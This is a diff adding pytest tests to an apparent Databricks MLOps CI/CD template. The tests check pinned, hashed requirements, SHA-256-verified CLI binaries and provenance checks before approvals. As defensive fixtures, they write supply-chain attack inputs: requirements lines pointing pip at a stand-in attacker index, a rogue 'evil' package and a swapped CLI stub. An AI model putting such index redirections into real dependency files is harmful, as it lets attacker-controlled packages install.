@@ -48,8 +48,8 @@ def template_before(tmp_path_factory) -> Path:
     return root
 
 
-def bake_into(template: Path, out: Path, platform: str, pattern: str, root: str = ".") -> Path:
-    context = {"cicd_platform": platform, "deployment_pattern": pattern}
+def bake_into(template: Path, out: Path, platform: str, pattern: str, root: str = ".", **answers: str) -> Path:
+    context = {"cicd_platform": platform, "deployment_pattern": pattern, **answers}
     if root != ".":
         context["project_root"] = root
     # In a fresh process outside this repository: Python keeps the first template's
@@ -213,6 +213,9 @@ def go_replace_attacks(project: Path, platform: str, work: Path) -> list[str]:
                 "CI_PROJECT_DIR": str(repo),
                 "BUILD_SOURCESDIRECTORY": str(repo),
                 "GITHUB_PATH": str(work / case / "github_path"),
+                "GITHUB_WORKSPACE": str(repo),
+                "GITHUB_OUTPUT": str(work / case / "github_output"),
+                "RUNNER_TEMP": str(work / case / "runner_temp"),
                 "GOFLAGS": "-modcacherw",
             }
             result = subprocess.run(
@@ -797,3 +800,325 @@ def test_gitlab_promotions_take_typed_inputs_not_pipeline_variables(tmp_path, te
     assert "its rules read the pipeline variables ['PROMOTE_MODEL']" in found, found
     if pattern == "deploy_models":
         assert "a pipeline variable chose what it promotes" in found, found
+
+
+# --------------------------------------------------------------------------------------
+# 6. Staging and prod jobs install pinned, hashed requirements exported from uv.lock
+
+REQUIREMENTS_FILE = "dist/requirements-jobs.txt"
+RUNTIME_NUMPY = "2.1.3"  # the template's .venv, the fake's stand-in for the runtime
+
+
+def _lock(numpy: str = RUNTIME_NUMPY, digest: str = "b" * 64) -> str:
+    """A uv.lock of a project that needs numpy (what a reviewed lock holds)."""
+    return f"""version = 1
+revision = 3
+requires-python = ">=3.11"
+
+[[package]]
+name = "my-mlops-project"
+version = "0.1.0"
+source = {{ editable = "." }}
+dependencies = [
+    {{ name = "numpy" }},
+]
+
+[package.metadata]
+requires-dist = [{{ name = "numpy", specifier = ">=1.26,<3" }}]
+
+[[package]]
+name = "numpy"
+version = "{numpy}"
+source = {{ registry = "https://pypi.org/simple" }}
+wheels = [
+    {{ url = "https://files.pythonhosted.org/packages/numpy-{numpy}-cp311-cp311-manylinux_2_17_x86_64.whl", hash = "sha256:{digest}", size = 1 }},
+]
+"""
+
+
+def _fake_install(text: str) -> str:
+    """What the fake workspace's job runner says of a requirements file ("" = it installs)."""
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "clitest"))
+    try:
+        import jobworker
+    finally:
+        sys.path.pop(0)
+    try:
+        jobworker.pinned_requirements("/Workspace/files/" + REQUIREMENTS_FILE, text)
+    except jobworker.TaskFailure as failure:
+        return str(failure)
+    return ""
+
+
+def pinned_install_attacks(project: Path, platform: str, work: Path) -> list[str]:
+    """Staging and prod jobs that install the wheel's ranges from the index, deploy jobs that do
+    not export the pinned requirements from uv.lock (UV_NO_CONFIG=1, --frozen) right before
+    `bundle deploy`, and what an attacker's requirements file or unreviewed lock change achieves."""
+    found = []
+    bundle = yaml.safe_load((project / "databricks.yml").read_text())
+    for target in ("staging", "prod"):
+        libraries = ((bundle["targets"][target].get("variables") or {}).get("job_libraries")) or []
+        files = [
+            lib
+            for lib in libraries
+            if (isinstance(lib, str) and lib.startswith("-r ")) or (isinstance(lib, dict) and "requirements" in lib)
+        ]
+        if not any(REQUIREMENTS_FILE in str(f) for f in files):
+            found.append(f"{target}: the jobs install the wheel's ranges from the index, no hashed requirements file")
+    uv = shutil.which("uv") or str(Path(sys.executable).parent / "uv")
+    for job in EXTRACT[platform](project):
+        deploys = [t for verb, _, t in job.ops if verb == "deploy" and t in ("staging", "prod")]
+        if not deploys:
+            continue
+        exports = [s for s in job.scripts if "uv export" in s]
+        deploy_at = job.commands.find("bundle deploy")
+        export_at = job.commands.find("uv export")
+        if not exports or export_at < 0 or export_at > deploy_at:
+            found.append(f"{job.file}:{job.name}: deploys {deploys[0]} without exporting the requirements from uv.lock")
+            continue
+        line = next(ln.strip() for ln in exports[0].splitlines() if "uv export" in ln)
+        if "UV_NO_CONFIG=1" not in line and job.env.get("UV_NO_CONFIG") != "1":
+            found.append(f"{job.file}:{job.name}: exports with the configuration of a parent folder")
+        if "--frozen" not in line or "--no-hashes" in line:
+            found.append(f"{job.file}:{job.name}: the export resolves again or drops the hashes: {line}")
+        # The export as the job runs it, in a checkout holding the reviewed lock and an
+        # attacker's requirements file (committed into dist/ with git add -f, say).
+        checkout = work / job.name
+        shutil.rmtree(checkout, ignore_errors=True)
+        (checkout / "dist").mkdir(parents=True)
+        shutil.copy(project / "pyproject.toml", checkout / "pyproject.toml")
+        (checkout / "uv.lock").write_text(_lock())
+        attacker = f"numpy=={RUNTIME_NUMPY} \\\n    --hash=sha256:{'e' * 64}\n--extra-index-url https://pypi.attacker.example.com/simple\n"
+        (checkout / REQUIREMENTS_FILE).write_text(attacker)
+        env = {"PATH": f"{Path(uv).parent}:/usr/bin:/bin", "HOME": str(work), "UV_OFFLINE": "1"}
+        command = line.replace("uv export", f"{uv} export", 1)
+        result = subprocess.run(["bash", "-c", command], cwd=checkout, env=env, capture_output=True, text=True)
+        exported = (checkout / REQUIREMENTS_FILE).read_text()
+        if result.returncode != 0 or "e" * 64 in exported or "attacker" in exported:
+            found.append(f"{job.file}:{job.name}: deploys the attacker's requirements file ({result.stderr[-200:]})")
+        elif _fake_install(exported):
+            found.append(
+                f"{job.file}:{job.name}: the reviewed lock's export does not install: {_fake_install(exported)}"
+            )
+        # uv.lock changed without review: another numpy. The export follows the lock (what
+        # CODEOWNERS on uv.lock guards); a version the runtime does not have stops the run.
+        (checkout / "uv.lock").write_text(_lock(numpy="2.3.0", digest="c" * 64))
+        subprocess.run(["bash", "-c", command], cwd=checkout, env=env, capture_output=True, text=True)
+        changed = (checkout / REQUIREMENTS_FILE).read_text()
+        if changed == exported or "Library installation failed" not in _fake_install(changed):
+            found.append(f"{job.file}:{job.name}: a changed uv.lock neither changes the export nor stops the run")
+    return found
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_staging_and_prod_install_hashed_requirements_exported_from_the_lock(tmp_path, template_before, platform):
+    for compute in ("serverless", "classic"):
+        project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{compute}", platform, "deploy_code", compute=compute)
+        assert pinned_install_attacks(project, platform, tmp_path / f"new-run-{compute}") == []
+    old = bake_into(template_before, tmp_path / "old", platform, "deploy_code")
+    found = "\n".join(pinned_install_attacks(old, platform, tmp_path / "old-run"))
+    assert "staging: the jobs install the wheel's ranges from the index" in found, found
+    assert "prod: the jobs install the wheel's ranges from the index" in found, found
+    assert "deploys staging without exporting the requirements from uv.lock" in found, found
+    assert "deploys prod without exporting the requirements from uv.lock" in found, found
+
+
+def test_the_fake_runs_a_task_only_with_pinned_hashed_requirements_the_runtime_meets():
+    """The fake's job runner reads a requirements file as pip's hash-checking mode does."""
+    good = f"numpy=={RUNTIME_NUMPY} \\\n    --hash=sha256:{'b' * 64}\n    # via my-mlops-project\n"
+    assert _fake_install(good) == ""
+    edited = {
+        "hash removed": f"numpy=={RUNTIME_NUMPY}\n",
+        "range instead of a pin": f"numpy>=1.26 --hash=sha256:{'b' * 64}\n",
+        "another index": f"--index-url https://pypi.attacker.example.com/simple\n{good}",
+        "a version the runtime lacks": f"numpy==2.3.0 --hash=sha256:{'b' * 64}\n",
+        "a package the runtime lacks": f"{good}evil==1.0 --hash=sha256:{'d' * 64}\n",
+    }
+    for case, text in edited.items():
+        assert _fake_install(text).startswith("Library installation failed for /Workspace/files/"), case
+
+
+# --------------------------------------------------------------------------------------
+# 8. The CLI built once per run, from one definition, checked by its SHA-256 where it runs
+
+
+def cli_build_problems(project: Path, platform: str) -> list[str]:
+    """Where the CLI build is written more than once, runs more than once in one pipeline run,
+    runs in a job that holds a principal while another job could build it without one, comes from
+    a cache, or is run by a job that did not build it without checking its SHA-256."""
+    where = layout(project)
+    problems = []
+    files = where.ci_files(platform)
+    if platform == "github_actions" and where.mono:  # the project's local actions, at the repository root
+        files += sorted((where.repo / ".github" / "actions").glob(f"{where.slug}-*/action.yml"))
+    written = [p for p in files for _ in range(p.read_text().count('go -C "$module" build'))]
+    if len(written) != 1:
+        problems.append(f"the CLI build is written {len(written)} times ({sorted({p.name for p in written})})")
+    jobs = EXTRACT[platform](project)
+    builders = {j.name: j for j in jobs if 'go -C "$module" build' in j.commands}
+    per_run: dict[tuple[str, str], list[str]] = {}
+    for job in builders.values():
+        for trigger in job.triggers:
+            per_run.setdefault((job.file, trigger), []).append(job.name)
+    for (file, trigger), names in sorted(per_run.items()):
+        if len(names) > 1:
+            problems.append(f"{file} ({trigger}): builds the CLI in {len(names)} jobs of one run: {sorted(names)}")
+    for job in jobs:
+        if not job.uses_databricks:
+            continue
+        if job.name in builders and platform != "azure_devops":
+            problems.append(f"{job.file}:{job.name}: builds the CLI itself while it can obtain a token")
+        if job.name not in builders and "sha256sum -c" not in job.commands:
+            problems.append(f"{job.file}:{job.name}: runs a CLI built elsewhere without checking its SHA-256")
+    for path in files:
+        text = path.read_text()
+        if re.search(r"actions/cache@|Cache@2[\s\S]{0,200}databricks-cli|cache:[\s\S]{0,120}databricks-cli", text):
+            problems.append(f"{path.name}: the CLI comes from a cache")
+    return problems
+
+
+def swapped_cli_runs(project: Path, platform: str, work: Path) -> list[str]:
+    """GitHub and GitLab: the CLI steps of each job that runs a CLI another job built, given a
+    binary other than the one whose hash the build recorded: [] when every such job stops."""
+    found = []
+    where = layout(project)
+    for job in EXTRACT[platform](project):
+        if not job.uses_databricks or 'go -C "$module" build' in job.commands:
+            continue
+        check = next((s for s in job.scripts if "sha256sum -c" in s), None)
+        if check is None:
+            found.append(f"{job.file}:{job.name}: no hash check")
+            continue
+        temp = work / job.name / "runner_temp"
+        bins = [temp / "databricks-cli", where.project / ".databricks-cli" / "bin"]
+        for folder in bins:
+            folder.mkdir(parents=True, exist_ok=True)
+            (folder / "databricks").write_text("#!/bin/sh\necho the attacker's CLI\n")
+        recorded = "0" * 64  # what the build job recorded for the binary it built
+        (bins[1] / "databricks.sha256").write_text(f"{recorded}  databricks\n")
+        body = check.replace("${{ inputs.sha256 }}", recorded)
+        env = {"RUNNER_TEMP": str(temp), "EXPECTED_SHA256": recorded, "CI_PROJECT_DIR": str(where.repo)}
+        code, calls, output = run_with_stubs(body, work / job.name, {}, env, where.project)
+        if code == 0:
+            found.append(f"{job.file}:{job.name}: runs a binary whose SHA-256 is not the one the build recorded")
+    return found
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_the_cli_is_built_once_per_run_from_one_definition(tmp_path, template_before, platform):
+    for pattern in PATTERNS:
+        for root in (".", "ml/fares"):
+            project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{pattern}-{root[:2]}", platform, pattern, root)
+            assert cli_build_problems(project, platform) == [], (pattern, root)
+            if platform != "azure_devops":
+                assert swapped_cli_runs(project, platform, tmp_path / f"run-{pattern}-{root[:2]}") == []
+    old = bake_into(template_before, tmp_path / "old", platform, "deploy_models")
+    found = "\n".join(cli_build_problems(old, platform))
+    if platform == "github_actions":
+        assert "the CLI build is written 6 times" in found, found
+        assert "cd.yml (push:main): builds the CLI in 2 jobs of one run" in found, found
+        assert "promote.yml (manual): builds the CLI in 2 jobs of one run" in found, found
+        assert "cd.yml:deploy-prod: builds the CLI itself while it can obtain a token" in found, found
+    elif platform == "gitlab":  # built once per pipeline already, but run unchecked
+        assert "promote-prod: runs a CLI built elsewhere without checking its SHA-256" in found, found
+    else:  # Azure DevOps: one template, built in the one job of each pipeline that runs it
+        assert found == "", found
+
+
+# --------------------------------------------------------------------------------------
+# 3. The staging promotion's provenance, checked before the approval, by a read-only principal
+
+CI_SP = "00000000-0000-0000-0000-000000000003"
+
+
+def _dotenv(job: CIJob, cwd: Path) -> dict[str, str]:
+    """GitLab: the variables a job's dotenv report passes to the jobs that need it."""
+    report = ((job.raw.get("artifacts") or {}).get("reports") or {}).get("dotenv")
+    path = cwd / report if report else None
+    if not path or not path.exists():
+        return {}
+    return dict(line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)
+
+
+def provenance_check_attacks(project: Path, platform: str, work: Path) -> list[str]:
+    """The staging promotion of deploy_models: the provenance check must run in a job of its own
+    before the approved job, as the CI principal, publish what it found, and hand the approved job
+    the version it checked, which that job copies even after the dev owner moved the alias."""
+    found = []
+    where = layout(project)
+    jobs = {j.name: j for j in EXTRACT[platform](project)}
+    gated = [j for j in jobs.values() if ("run", "model_promotion_job", "staging") in j.ops]
+    assert gated, "no staging promotion"
+    for job in gated:
+        if re.search(r"get-by-alias \"\$SOURCE_MODEL\"|experiments get-run", job.commands):
+            found.append(f"{job.file}:{job.name}: checks provenance inside the approved job, after the approval")
+        checks = [jobs[n] for n in sorted(job.needs) if n in jobs and "experiments get-run" in jobs[n].commands]
+        if not checks:
+            found.append(f"{job.file}:{job.name}: no provenance check runs before its approval")
+            continue
+        check = checks[0]
+        if check.env.get("DATABRICKS_CLIENT_ID") != CI_SP or "bundle run" in check.commands or check.gated:
+            found.append(f"{check.file}:{check.name}: the check does not run as the read-only CI principal")
+        env = {
+            "SOURCE_MODEL": "dev.s.m",
+            "MODEL_VERSION": "",
+            "CI_PROJECT_DIR": str(where.repo),
+            "GITLAB_USER_LOGIN": "reviewer",
+            "CI_JOB_URL": "u",
+            "DATABRICKS_OIDC_TOKEN": "t",
+            "RUNNER_TEMP": str(work / "runner_temp"),
+        }
+        bin_dir = where.project / ".databricks-cli" / "bin"  # GitLab: the CLI artifact and its hash
+        bin_dir.mkdir(parents=True, exist_ok=True)
+        (bin_dir / "databricks").write_text(STUB)
+        (bin_dir / "databricks").chmod(0o755)
+        (bin_dir / "databricks.sha256").write_text(
+            subprocess.run(["sha256sum", "databricks"], cwd=bin_dir, capture_output=True, text=True).stdout
+        )
+
+        def body(j: CIJob) -> str:
+            if platform == "gitlab":
+                return _gitlab_job_script(j, {"model_version": "", "source_model": "dev.s.m", "promote_model": "yes"})
+            return "\n".join(s for s in j.scripts if "databricks-cli" not in s and "sha256sum" not in s)
+
+        replies = _happy_replies()
+        replies["databricks model-versions get-by-alias"] = [{"out": {"version": "3"}}, {"out": {"version": "4"}}]
+        code, calls, output = run_with_stubs(body(check), work / check.name, replies, env, where.project)
+        summary = (work / check.name / "github_summary").read_text() if platform == "github_actions" else output
+        if code != 0:
+            found.append(f"{check.file}:{check.name}: the check fails on a good version: {output[-400:]}")
+            continue
+        for fact in ("3", "r1", "5", "7", "dev-sp", COMMIT):
+            if fact not in summary:
+                found.append(f"{check.file}:{check.name}: the reviewer does not see {fact!r} before approving")
+        if platform == "github_actions":
+            outputs = (work / check.name / "github_output").read_text()
+            passed = dict(line.split("=", 1) for line in outputs.splitlines() if "=" in line)
+            given = {  # each job variable set from a job output, as GitHub fills it in
+                var: passed.get(m.group(1), "")
+                for var, value in (job.raw.get("env") or {}).items()
+                if (m := re.search(r"needs\.[\w-]+\.outputs\.(\w+)", str(value)))
+            }
+        else:
+            given = _dotenv(check, where.project)
+        # The approved job, after the owner moved `champion` to 4.
+        moved = _happy_replies(champion="4")
+        code, calls, output = run_with_stubs(body(job), work / job.name, moved, {**env, **given}, where.project)
+        runs = [c["call"] for c in calls if "bundle run model_promotion_job" in c["call"]]
+        if code != 0 or not runs or "source_version=3" not in runs[0]:
+            found.append(
+                f"{job.file}:{job.name}: copies {runs[0] if runs else 'nothing'} after the check passed version 3"
+            )
+    return found
+
+
+@pytest.mark.parametrize("platform", ["github_actions", "gitlab"])
+def test_the_staging_provenance_is_checked_and_shown_before_the_approval(tmp_path, template_before, platform):
+    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, "deploy_models")
+    assert provenance_check_attacks(project, platform, tmp_path / "new-run") == []
+    doc = (project / "docs" / "ci-setup.md").read_text()
+    assert "USE CATALOG" in doc and "CAN_VIEW" in doc and "shared dev deployment" in doc
+    old = bake_into(template_before, tmp_path / "old", platform, "deploy_models")
+    found = "\n".join(provenance_check_attacks(old, platform, tmp_path / "old-run"))
+    assert "checks provenance inside the approved job, after the approval" in found, found
+    assert "no provenance check runs before its approval" in found, found
